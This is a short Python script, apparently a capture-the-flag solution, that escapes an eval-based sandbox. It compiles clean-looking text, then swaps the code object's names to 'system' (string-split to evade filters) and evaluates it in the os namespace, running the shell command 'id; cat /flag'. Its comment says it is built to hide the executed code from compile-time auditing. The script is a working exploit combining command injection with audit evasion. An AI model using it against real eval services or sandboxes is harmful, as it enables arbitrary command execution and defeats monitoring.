# Compile clean text ("getenv('id; cat /flag')") and, on the same line, swap
# the code object's names before evaluating it against os' namespace: the only
# compile recorded for that line is the clean text, the swapped code runs.
import io
import os
import sys

sys.stdin = io.StringIO("getenv('id; cat /flag')\n{'co_' + 'names': ('sys' + 'tem',)}\n")

text = input()
opts = eval(input())
print(eval(compile(text, "<calc>", "eval").replace(**opts), dict(vars(os))))
